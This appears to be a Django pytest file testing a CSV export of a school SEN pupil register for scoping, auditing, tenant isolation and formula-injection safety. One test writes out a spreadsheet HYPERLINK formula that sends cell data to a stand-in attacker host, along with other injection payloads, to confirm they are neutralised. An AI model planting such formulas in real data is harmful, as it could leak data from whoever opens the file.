"""CSV export of the SEN register: scoped and filtered like the list, streamed, audited once, and safe
to open in a spreadsheet."""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from accounts.models import Role
from audit.models import AuditEvent
from pupils.models import InformedBy, NeedType, SenStatus
from pupils.selectors import EXPORT_HEADER, spreadsheet_safe
from tests import factories as f
from tests.fixtures import client_for

TODAY = timezone.localdate()


def export(user, **params):
    response = client_for(user).get(reverse("pupils:export"), params)
    return response


def rows_of(response):
    assert response.status_code == 200
    assert isinstance(response, StreamingHttpResponse)
    text = b"".join(response.streaming_content).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:])))
    assert rows[0] == EXPORT_HEADER
    return rows[1:]


def upns(rows):
    return {row[0] for row in rows}


def test_la_officer_exports_the_whole_register_with_every_column(tenant):
    pupil = tenant.pupil_1
    pupil.secondary_need = NeedType.objects.get(code="SEMH")
    pupil.sen_support_since = datetime.date(2023, 9, 5)
    pupil.parents_informed_on = datetime.date(2023, 9, 12)
    pupil.parents_informed_how = InformedBy.MEETING
    pupil.save()
    f.make_open_cycle(
        pupil, started_on=TODAY - datetime.timedelta(days=30), review_on=TODAY + datetime.timedelta(days=7)
    )
    response = export(tenant.users["la_officer"])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="sen-register-{TODAY:%Y-%m-%d}.csv"'
    assert response["Cache-Control"] == "no-store"
    rows = rows_of(response)
    assert upns(rows) == {tenant.pupil_1.upn, tenant.pupil_2.upn, tenant.pupil_3.upn}
    [row] = [row for row in rows if row[0] == pupil.upn]
    assert row == [
        pupil.upn, pupil.first_name, pupil.last_name, "2015-01-01", "Year 4", tenant.school_1.name,
        "SEN Support", "SLCN", "SEMH", "2023-09-05", "2023-09-12", (TODAY + datetime.timedelta(days=7)).isoformat(),
    ]  # fmt: skip
    [other] = [row for row in rows if row[0] == tenant.pupil_2.upn]
    assert other[8:] == ["", "", "", ""]


def test_filename_never_carries_personal_data(tenant):
    response = export(tenant.users["senco"], school=tenant.school_1.pk, year="4")
    disposition = response["Content-Disposition"]
    for text in (tenant.pupil_1.last_name, tenant.pupil_1.upn, tenant.school_1.name):
        assert text not in disposition


def test_senco_export_holds_only_their_own_schools_pupils(world):
    senco = world.a.users["senco"]
    f.make_pupil(world.a.school_2)
    rows = rows_of(export(senco))
    assert upns(rows) == {world.a.pupil_1.upn}
    # Guessing another school (or tenant) in the filter finds nothing to export: 404, not an empty file.
    assert export(senco, school=world.a.school_2.pk).status_code == 404
    assert export(senco, school=world.b.school_1.pk).status_code == 404
    assert AuditEvent.objects.filter(action="register_exported").count() == 1


def test_area_send_lead_exports_their_localities_only(tenant):
    rows = rows_of(export(tenant.users["area_lead"]))
    assert upns(rows) == {tenant.pupil_1.upn, tenant.pupil_2.upn}


def test_export_applies_the_lists_filters(tenant):
    officer = tenant.users["la_officer"]
    year_6 = f.make_pupil(tenant.school_3, nc_year=6)
    plan = f.make_pupil(
        tenant.school_2, sen_status=SenStatus.EHC_PLAN, ehcp_issued_on=datetime.date(2022, 2, 2),
        primary_need=NeedType.objects.get(code="ASD"),
    )  # fmt: skip
    assert upns(rows_of(export(officer, year="6"))) == {year_6.upn}
    assert upns(rows_of(export(officer, status="E"))) == {plan.upn}
    assert upns(rows_of(export(officer, school=tenant.school_2.pk))) == {tenant.pupil_2.upn, plan.upn}
    overdue = f.make_pupil(tenant.school_1)
    f.make_open_cycle(
        overdue, started_on=TODAY - datetime.timedelta(days=90), review_on=TODAY - datetime.timedelta(days=1)
    )
    assert upns(rows_of(export(officer, review="overdue"))) == {overdue.upn}
    sorted_by_year = rows_of(export(officer, sort="year"))
    assert sorted_by_year[-1][0] == year_6.upn


def test_removed_pupils_are_exported_only_when_asked(tenant):
    pupil = tenant.pupil_2
    pupil.on_register, pupil.removed_on, pupil.removal_reason = False, TODAY, "Moved out of area"
    pupil.save()
    officer = tenant.users["la_officer"]
    assert pupil.upn not in upns(rows_of(export(officer)))
    assert pupil.upn in upns(rows_of(export(officer, removed="1")))


def test_every_export_is_audited_once_on_the_school_or_the_authority(tenant):
    officer, senco = tenant.users["la_officer"], tenant.users["senco"]
    rows_of(export(officer, year="4", status="K"))
    event = AuditEvent.objects.get(action="register_exported")
    assert event.actor == officer and event.local_authority_id == tenant.authority.pk
    assert (event.object_type, event.object_id) == ("localities.localauthority", str(tenant.authority.pk))
    assert "status K" in event.summary and "year 4" in event.summary

    rows_of(export(officer, school=tenant.school_3.pk))
    rows_of(export(senco))
    events = AuditEvent.objects.filter(action="register_exported").order_by("pk")
    assert [(e.object_type, e.object_id) for e in events[1:]] == [
        ("localities.school", str(tenant.school_3.pk)),
        ("localities.school", str(tenant.school_1.pk)),
    ]
    for event in events:
        for pupil in (tenant.pupil_1, tenant.pupil_2, tenant.pupil_3):
            assert pupil.last_name not in event.summary and pupil.upn not in event.summary


def test_formula_injection_is_neutralised(tenant):
    link = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    tenant.pupil_1.first_name = link
    tenant.pupil_1.last_name = "+SUM(1,2)"
    tenant.pupil_1.save()
    tenant.pupil_2.first_name, tenant.pupil_2.last_name = "@cmd", "-2+3"
    tenant.pupil_2.save()
    tenant.pupil_3.first_name, tenant.pupil_3.last_name = "\tTab", "\rReturn"
    tenant.pupil_3.save()
    tenant.school_1.name = "=1+1 Academy"
    tenant.school_1.save()
    rows = {row[0]: row for row in rows_of(export(tenant.users["la_officer"]))}
    assert rows[tenant.pupil_1.upn][1:3] == ["'" + link, "'+SUM(1,2)"]
    assert rows[tenant.pupil_1.upn][5] == "'=1+1 Academy"
    assert rows[tenant.pupil_2.upn][1:3] == ["'@cmd", "'-2+3"]
    assert rows[tenant.pupil_3.upn][1:3] == ["'\tTab", "'\rReturn"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"), ("+44 20", "'+44 20"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"), ("O'Neill", "O'Neill"), ("Smith-Jones", "Smith-Jones"), ("", ""), (None, ""),
        (datetime.date(2024, 3, 1), "2024-03-01"), (7, "7"),
    ],
)  # fmt: skip
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


@pytest.mark.parametrize("role", ["panel_member", "finance_officer", "specialist"])
def test_roles_without_the_register_cannot_export(tenant, role):
    assert export(tenant.users[role]).status_code == 403
    assert not AuditEvent.objects.filter(action="register_exported").exists()


def test_signed_out_visitor_is_sent_to_sign_in(tenant, client):
    response = client.get(reverse("pupils:export"))
    assert response.status_code == 302 and response.url.startswith(reverse("accounts:sign-in"))


def test_export_never_includes_another_tenants_pupils(world):
    for role in ("la_officer", "area_lead", "senco"):
        exported = upns(rows_of(export(world.a.users[role])))
        assert not exported & {world.b.pupil_1.upn, world.b.pupil_2.upn, world.b.pupil_3.upn}


def _count(user, params):
    client = client_for(user)
    with CaptureQueriesContext(connection) as queries:
        response = client.get(reverse("pupils:export"), params)
        rows = rows_of(response)
    return len(queries), len(rows)


# 4 before the view, the school or authority the export is recorded on, the audit row, and the rows
# themselves (one server-side cursor, fetched in chunks).
@pytest.mark.parametrize(("role", "params"), [("la_officer", {}), ("senco", {"sort": "review", "review": "due"})])
def test_export_query_count_is_constant(tenant, role, params):
    user = tenant.users[role]
    if role == "senco":
        f.grant(user, tenant.authority, Role.SENCO, school=tenant.school_2)

    def add_pupil():
        pupil = f.make_pupil(tenant.school_1)
        f.make_open_cycle(
            pupil, started_on=TODAY - datetime.timedelta(days=30), review_on=TODAY + datetime.timedelta(days=3)
        )

    if params:
        add_pupil()
    few, few_rows = _count(user, params)
    for _ in range(20):
        add_pupil()
    many, many_rows = _count(user, params)
    assert many_rows == few_rows + 20
    assert few == many == 4 + 1 + 1 + 1, (few, many)
